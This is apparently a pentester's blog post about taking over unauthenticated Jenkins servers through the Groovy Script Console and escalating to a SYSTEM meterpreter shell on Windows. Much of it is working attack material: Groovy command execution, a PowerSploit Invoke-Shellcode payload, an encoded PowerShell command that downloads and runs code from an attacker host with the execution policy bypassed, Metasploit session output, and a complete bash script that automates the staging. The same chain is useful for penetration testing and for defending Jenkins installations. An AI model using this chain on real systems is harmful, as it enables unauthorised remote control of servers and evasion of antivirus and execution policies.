Recently I came across a few Jenkins continuous integration servers. A relatively old version I might add but that fact was not important. What was important though was the fact that it was not configured to be ‘secure’. Right out of the box Jenkins does not require any authentication to make use of it. In fact, it seems like its almost plug and play.


At first glance I was not too sure about what opportunities I was presented with when finding this. Poking around through the web interface eventually got me to the Script Console that Jenkins provides:

This looked promising. ‘Type in an arbitrary Groovy script and execute it on the server.' I had zero idea what Groovy Script was so to the le-Googles it was. Some research revealed that it is actually possible to execute commands using it. In fact, the syntax was quite expressive as explained in the documentation.

def process = "ls -l".execute()
println "Found text ${process.text}"

The documentation goes into enough detail explaining the different options you have to execute commands, but the above snippet was enough to get going. To help with testing, I setup a local instance of the latest Jenkins (v1.615) and ran the Groovy Script. Remember, I was able to do this without any authentication requirement!

Nice and easy command execution! :D

interactive shell, power shell

Getting an interactive shell on linux based hosts was as simple as picking your favorite flavor of reverse shell and moving on from there. On Windows basedenvironments though, the builtin cmd.exe definitely has its limitations. For this reason, reaching out for a meterpreter shell is almost a knee-jerk reaction.

The one Jenkins machine that I had found was running on Windows as nt authority\system, which of course was great news! I figured though that in order to get a meterpreter shell, I’d have to approach this in some conventional way. Either obtaining credentials somehow and launching it with say the metasploit SMB PSExec,or uploading an .exe somehow and executing that. Some investigations showed though that the AV on the box was killing the meterpreter.exe on the box so that option was out as well. So, next on the list? I could just make use of Invoke-Shellcode.ps1 from PowerSploit to download and execute one using one command.Admittedly, I have never actually done this so a little Google-fu and research was needed to get it working right, but eventually this payed off.

In essence, getting the meterpreter shell up required 2 things (apart from the command execution). A payload which includes the Invoke-Shellcode.ps1 powershell script together with the meterpreter connection details, and an encoded powershell command to be executed using the command execution we have. Together these will download the hosted payload and prepare the meterpreter. If this sounds a little confusing, don’t worry it should be more clear after we have gone through it.

preparing the payload

As already mentioned, I was going to use Invoke-Shellcode.ps1 from PowerSploit. This will go into the payload that needs to be downloaded to bring the meterpreter up. When talking about payload here, all it really is is a file that will be made available via HTTP for the powershell script to download.

The payload will consist of 2 parts. First, defining function Invoke-Shellcode {}, and then invoking the function for a windows/meterpreter/reverse_https shell. Kali Linux has powersploit available in /usr/share so all I really did was cat it to my payload file:

$ cat /usr/share/powersploit/CodeExecution/Invoke-Shellcode.ps1 > payload

After that, I added the following line to the payload file which will invoke the introduced function and connect the meterpreter. My listener was on on port 443:

Invoke-Shellcode -Payload windows/meterpreter/reverse_https -Lhost -Lport 443 -Force

This file was finally served via HTTP using the python SimpleHTTPServer with python -m SimpleHTTPServer which meant that it would be available at

preparing the command

Next, we need to prepare the actual command to run. We will make use of the powershell Invoke-Expression command and give it a [Net.WebClient.DownloadString]( object to download the payload we previously prepared andexecute it.

iex (New-Object Net.WebClient).DownloadString('')

That whole command needs to be encoded so that, using the command injection, we can run powershell and not worry about escaping and things like that. I found some snippets online to help with this.

echo $scriptblock | iconv --to-code UTF-16LE | base64 -w 0

The above will output a base64 encoded string that should be passed to the Powershell -Enc flag for execution. The last hurdle to overcome was a potential execution policy. The tl;dr of this is that it can be bypassed by simply passing -Exec ByPass to the powershell executable. So, in summary, the command will be as follows:

cmd.exe /c PowerShell.exe -Exec ByPass -Nol -Enc aQBlAHgAIAAoAE4 [snip] BjBkACcAKQAKAA==


So, I now had the payload file available for download via HTTP, and the command I needed to run. The last thing I had to do was setup a reverse_https listener in metasploit and run the command!

From the python web server we can see the request come in for the payload: - - [28/May/2015 12:37:15] "GET /payload HTTP/1.1" 200 -

And pop!

msf exploit(handler) > exploit

[*] Started HTTPS reverse handler on
[*] Starting the payload handler...
[*] Request received for /INITM...
[*] Staging connection for target /INITM received...
[*] Meterpreter session 1 opened ( -> at 2015-05-28 12:37:17 +0200meterpreter >
meterpreter > getuid
Server username: NT AUTHORITY\SYSTEM


While testing this, I slapped together a small script that will prepare the command to run and start the SimpleHTTPServer:


# meterpreter ip & port

echo " * Writing Payload"
cat /usr/share/powersploit/CodeExecution/Invoke-Shellcode.ps1 > payload
echo "Invoke-Shellcode -Payload windows/meterpreter/reverse_https -Lhost $lhost -Lport $lport -Force" >> payload

echo " * Prepping Command"
scriptblock="iex (New-Object Net.WebClient).DownloadString('http://$lhost:8000/payload')"
echo $scriptblock

echo " * Encoding command"
encode="`echo $scriptblock | iconv --to-code UTF-16LE | base64 -w 0`"echo $encode

command="cmd.exe /c PowerShell.exe -Exec ByPass -Nol -Enc $encode"
echo "* Final command"
echo $commandecho " * Starting HTTP Server to serve payload"
python -m SimpleHTTPServer